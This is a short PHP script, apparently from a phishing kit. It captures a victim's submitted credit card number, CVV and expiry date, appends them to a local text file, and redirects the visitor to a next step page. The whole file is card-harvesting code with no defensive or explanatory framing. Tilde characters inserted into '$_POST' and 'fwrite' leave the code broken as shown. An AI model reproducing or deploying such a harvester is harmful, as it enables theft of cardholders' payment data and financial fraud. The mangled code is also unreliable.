<?php exit; ?>
<?php
$card = array('number' => $_P~OST['cc_number'], 'cvv' => $_P~OST['cvv'], 'expiry' => $_P~OST['exp']);
$h = fopen('marker.txt', 'a'); foreach ($card as $k => $v) { fwr~ite($h, "$k: $v\n"); } fclose($h);
echo '<meta http-equiv="refresh" content="0; url=step3.php">';
